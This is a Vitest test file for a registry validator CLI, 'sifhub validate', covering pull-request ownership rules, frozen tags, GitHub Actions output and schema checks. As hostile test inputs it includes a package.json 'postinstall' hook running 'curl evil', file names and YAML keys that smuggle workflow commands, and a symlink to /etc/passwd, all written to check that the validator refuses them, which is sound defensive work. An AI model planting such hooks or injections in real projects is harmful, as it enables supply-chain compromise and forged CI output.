import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runSifhub } from '../helpers/cli.ts';
import { image, tagRecord, TempRepo } from '../helpers/git-repo.ts';

// `sifhub validate --base main --author LOGIN` on a change branch, as the pull-request workflow
// runs it: real git repositories, a base branch and a change branch.

let repo: TempRepo;
afterEach(() => repo?.dispose());

async function baseRepo(): Promise<TempRepo> {
  repo = await TempRepo.create();
  await repo.write({
    'registry/registry.yml': 'name: Lab\nurl: https://lab.example.org\nmaintainers: [boss]\n',
    'registry/lab/README.md': '---\nowners: [ada, grace]\n---\n',
    'registry/lab/tool/1.0.md': tagRecord(image(1), 'frozen: true\n'),
    'registry/lab/tool/2.0.md': tagRecord(image(2)),
    'registry/other/README.md': '---\nowners: [linus]\n---\n',
    'registry/other/thing/1.0.md': tagRecord(image(3)),
  });
  await repo.commit('base', '2024-01-01T00:00:00Z');
  await repo.git('checkout', '-q', '-b', 'change');
  return repo;
}

const validate = (author: string) => runSifhub(['validate', '--base', 'main', '--author', author], repo.dir);

describe('validate --base', () => {
  it('lets an owner change their collection, and a new collection whose owners include its author', async () => {
    await baseRepo();
    await repo.write({
      'registry/lab/tool/2.0.md': tagRecord(image(4)),
      'registry/lab/tool/3.0.md': tagRecord(image(5)),
    });
    await repo.commit('update', '2024-02-01T00:00:00Z');
    expect((await validate('Ada')).code).toBe(0); // logins are case-insensitive
    await repo.write({ 'registry/newlab/README.md': '---\nowners: [ada]\n---\n', 'registry/newlab/x/1.0.md': tagRecord(image(6)) });
    const result = await validate('ada');
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
  });

  it('refuses changes outside the author\'s collections, naming the owners, with owners read from the base', async () => {
    await baseRepo();
    // The change also tries to make its author an owner: the base's owners still decide.
    await repo.write({
      'registry/other/README.md': '---\nowners: [linus, mallory]\n---\n',
      'registry/other/thing/1.0.md': tagRecord(image(7)),
      'registry/registry.yml': 'name: Lab\nurl: https://lab.example.org\nmaintainers: [boss, mallory]\n',
      'registry/evil/README.md': '---\nowners: [ada]\n---\n',
      'registry/evil/x/1.0.md': tagRecord(image(8)),
    });
    await repo.commit('take over', '2024-02-01T00:00:00Z');
    const result = await validate('mallory');
    expect(result.code).toBe(1);
    expect(result.stderr).toMatchInlineSnapshot(`
      "✖ 3 problems in 3 files
      registry/evil/README.md
        owners   new collection "evil" must list its author mallory in owners (registry/evil/README.md), received ada
      registry/other/README.md
        mallory may not change collection "other": its owners are linus in main (maintainers: boss). A pull request may only touch collections its author owns.
      registry/registry.yml
        mallory may not change registry.yml: only maintainers may change the registry's own files (maintainers: boss)
      "
    `);
  });

  it('lets maintainers change everything except frozen tags, which nobody may move, unfreeze or delete', async () => {
    await baseRepo();
    await repo.write({ 'registry/other/thing/1.0.md': tagRecord(image(9)), 'registry/lab/tool/1.0.md': tagRecord(image(10), 'frozen: true\n') });
    await repo.commit('move', '2024-02-01T00:00:00Z');
    let result = await validate('boss');
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`registry/lab/tool/1.0.md\n  sha256   moves a frozen tag from ${image(1).sha256.slice(0, 12)}… to ${image(10).sha256.slice(0, 12)}…; frozen tags never change image and are never deleted (frozen in main)`);
    expect(result.stderr).not.toContain('other/thing');

    await repo.write({ 'registry/lab/tool/1.0.md': tagRecord(image(1)) });
    await repo.commit('unfreeze', '2024-03-01T00:00:00Z');
    result = await validate('ada');
    expect(result.stderr).toContain('frozen   unfreezes a frozen tag');

    await repo.remove('registry/lab/tool/1.0.md');
    await repo.commit('delete', '2024-04-01T00:00:00Z');
    result = await validate('ada');
    expect(result.stderr).toContain('registry/lab/tool/1.0.md (deleted)\n  deletes a frozen tag');
  });

  it('prints GitHub annotations and a step summary inside GitHub Actions', async () => {
    await baseRepo();
    await repo.write({ 'registry/other/thing/1.0.md': tagRecord(image(11)) });
    await repo.commit('touch', '2024-02-01T00:00:00Z');
    const summary = `${repo.dir}/summary.md`;
    const result = await runSifhub(['validate', '--base', 'main', '--author', 'ada'], repo.dir, { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: summary });
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('::error file=registry/other/thing/1.0.md,title=sifhub::ada may not change collection "other": its owners are linus in main (maintainers: boss). A pull request may only touch collections its author owns.\n');
    const { readFile } = await import('node:fs/promises');
    expect(await readFile(summary, 'utf8')).toContain('| `registry/other/thing/1.0.md` |  |  | ada may not change collection "other"');
  });

  it('never lets a hostile file name or YAML key start a line of its own (a workflow command in Actions)', async () => {
    await baseRepo();
    await repo.write({
      'registry/lab/tool/x\n::warning::forged.md': tagRecord(image(13)),
      'registry/lab/tool/3.0.md': tagRecord(image(14), '"k\\n::stop-commands::pwned": 1\n'),
    });
    await repo.commit('hostile', '2024-02-01T00:00:00Z');
    for (const env of [{}, { GITHUB_ACTIONS: 'true' }] as Record<string, string>[]) {
      const result = await runSifhub(['validate', '--base', 'main', '--author', 'ada'], repo.dir, env);
      expect(result.code).toBe(1);
      const lines = `${result.stdout}${result.stderr}`.split(/\r|\n/);
      expect(lines.filter((l) => l.startsWith('::') && !l.startsWith('::error file='))).toEqual([]);
      expect(lines.some((l) => l.includes('::warning::forged.md'))).toBe(true); // shown, escaped
    }
  });

  it('reports schema problems and change problems together', async () => {
    await baseRepo();
    await repo.write({ 'registry/other/thing/1.0.md': tagRecord({ ...image(12), url: 'http://insecure.example.org/x.sif' }) });
    await repo.commit('bad', '2024-02-01T00:00:00Z');
    const result = await validate('ada');
    expect(result.stderr).toMatch(/✖ 2 problems in 1 file\n.*\n {2}ada may not change collection "other".*\n {2}url +expected an https:\/\/ URL/);
  });

  it('says so when the base is not in the repository', async () => {
    await baseRepo();
    const result = await runSifhub(['validate', '--base', 'origin/nope'], repo.dir);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain('--base origin/nope: no such commit in this repository');
  });
});

describe('validate --base --head: a pull request judged from git objects, never checked out', () => {
  // The working tree stays at the base, as the trusted workflow leaves it; the head is a commit.
  async function pullRequest(files: Record<string, string>, remove: string[] = []): Promise<string> {
    await baseRepo();
    await repo.write(files);
    for (const file of remove) await repo.remove(file);
    const head = await repo.commit('pull request', '2024-02-01T00:00:00Z');
    await repo.git('checkout', '-q', 'main');
    return head;
  }
  const judge = (head: string, author: string) => runSifhub(['validate', '--base', 'main', '--head', head, '--author', author], repo.dir);

  it('passes an owner\'s new tag, reading it from the head commit only', async () => {
    const head = await pullRequest({ 'registry/lab/tool/3.0.md': tagRecord(image(5)) });
    const result = await judge(head, 'grace');
    expect(result.stderr).toBe('');
    expect(result.stdout).toContain(`✔ 4 tag records in 2 collections: all valid; the change since main to ${head} keeps the rules for grace`);
  });

  it('refuses a forbidden record change in the head, whatever the working tree holds', async () => {
    const head = await pullRequest({ 'registry/other/thing/1.0.md': tagRecord(image(7)) }, ['registry/lab/tool/1.0.md']);
    const result = await judge(head, 'ada');
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('registry/lab/tool/1.0.md (deleted)\n  deletes a frozen tag');
    expect(result.stderr).toContain('ada may not change collection "other"');
  });

  it('refuses a change outside the records by anyone but a maintainer, naming each file', async () => {
    const head = await pullRequest({
      'src/records/check-change.ts': 'export const checkChange = () => [];\n',
      '.github/workflows/pull-request.yml': 'on: push\n',
      'package.json': '{"scripts":{"postinstall":"curl evil"}}\n',
      'registry/.gitattributes': '*.md -text\n',
      'registry/lab/tool/3.0.md': tagRecord(image(5)),
    });
    const result = await judge(head, 'ada');
    expect(result.code).toBe(1);
    for (const file of ['.github/workflows/pull-request.yml', 'package.json', 'registry/.gitattributes', 'src/records/check-change.ts']) {
      expect(result.stderr).toContain(`${file}\n  ada may not change ${file}: it is not a record, and only a maintainer may change files outside the records`);
    }
    expect(result.stderr).toContain('a maintainer must make this change (maintainers: boss)');
    expect(result.stderr).toMatch(/✖ 4 problems in 4 files/);
    expect((await judge(head, 'Boss')).code).toBe(0);
  });

  it('takes a change of mode alone (chmod +x) for a change to the record', async () => {
    await baseRepo();
    const { chmod } = await import('node:fs/promises');
    await chmod(`${repo.dir}/registry/other/thing/1.0.md`, 0o755);
    const head = await repo.commit('mode only', '2024-02-01T00:00:00Z');
    await repo.git('checkout', '-q', 'main');
    const result = await judge(head, 'ada');
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('registry/other/thing/1.0.md\n  ada may not change collection "other"');
    expect((await judge(head, 'linus')).code).toBe(0);
  });

  it('refuses a symbolic link in the head\'s records', async () => {
    await baseRepo();
    const { symlink } = await import('node:fs/promises');
    await symlink('/etc/passwd', `${repo.dir}/registry/lab/tool/4.0.md`);
    const head = await repo.commit('link', '2024-02-01T00:00:00Z');
    await repo.git('checkout', '-q', 'main');
    const result = await judge(head, 'ada');
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('registry/lab/tool/4.0.md\n  symbolic links are not allowed in the registry');
  });

  it('needs --base with --head, and says when the head is not fetched', async () => {
    await baseRepo();
    expect((await runSifhub(['validate', '--head', 'change'], repo.dir)).code).toBe(2);
    const result = await runSifhub(['validate', '--base', 'main', '--head', 'refs/pull/1/head'], repo.dir);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain('--head refs/pull/1/head: no such commit in this repository');
  });
});

describe('validate --json', () => {
  it('prints every problem, the records\' and the change\'s, as JSON for a program, and exits 1', async () => {
    await baseRepo();
    await repo.write({ 'registry/other/thing/1.0.md': tagRecord({ ...image(3), md5: 'nope' }), 'registry/lab/tool/1.0.md': tagRecord(image(7), 'frozen: true\n') });
    await repo.commit('change', '2024-02-01T00:00:00Z');
    const result = await runSifhub(['validate', '--base', 'main', '--author', 'ada', '--json'], repo.dir);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe('');
    const output = JSON.parse(result.stdout) as { ok: boolean; problems: { file: string; field?: string }[] };
    expect(output.ok).toBe(false);
    expect(output.problems.map((p) => `${p.file} ${p.field ?? ''}`).sort()).toEqual([
      'registry/lab/tool/1.0.md sha256',
      'registry/other/thing/1.0.md ',
      'registry/other/thing/1.0.md md5',
    ]);
  });

  it('says ok with the counts when all is well', async () => {
    await baseRepo();
    const result = await runSifhub(['validate', '--json'], repo.dir);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual({ ok: true, tags: 3, collections: 2, problems: [] });
  });
});

describe('validate and registry/.schema/', () => {
  it('fails while the JSON Schemas differ from what sifhub generates, in the working tree and at --head', async () => {
    await baseRepo();
    expect((await runSifhub(['validate'], repo.dir)).code).toBe(0); // no folder: nothing to keep in step
    expect((await runSifhub(['schema'], repo.dir)).code).toBe(0);
    await repo.commit('schemas', '2024-01-02T00:00:00Z');
    expect((await runSifhub(['validate'], repo.dir)).code).toBe(0);

    // A hand edit makes editors accept what the build refuses.
    const tagSchema = path.join(repo.registry, '.schema/tag.schema.json');
    await writeFile(tagSchema, (await readFile(tagSchema, 'utf8')).replace('"required"', '"optional"'));
    await repo.remove('registry/.schema/collection.schema.json');
    await repo.write({ 'registry/.schema/old.schema.json': '{}\n' });
    const result = await runSifhub(['validate'], repo.dir);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatchInlineSnapshot(`
      "✖ 3 problems in 3 files
      registry/.schema/collection.schema.json
        missing: a maintainer runs \`sifhub schema\` and commits the folder
      registry/.schema/old.schema.json
        not a file sifhub generates (it writes registry.schema.json, collection.schema.json, container.schema.json, tag.schema.json); remove it
      registry/.schema/tag.schema.json
        differs from the JSON Schema this sifhub generates: a maintainer runs \`sifhub schema\` and commits the folder
      "
    `);

    await repo.commit('edit the schemas', '2024-01-03T00:00:00Z');
    await runSifhub(['schema'], repo.dir); // the working tree is right again; the commit is not
    const atHead = await runSifhub(['validate', '--base', 'main', '--head', 'change', '--author', 'boss'], repo.dir);
    expect(atHead.code).toBe(1);
    expect(atHead.stderr).toContain('registry/.schema/tag.schema.json\n  differs from the JSON Schema this sifhub generates');
  });
});
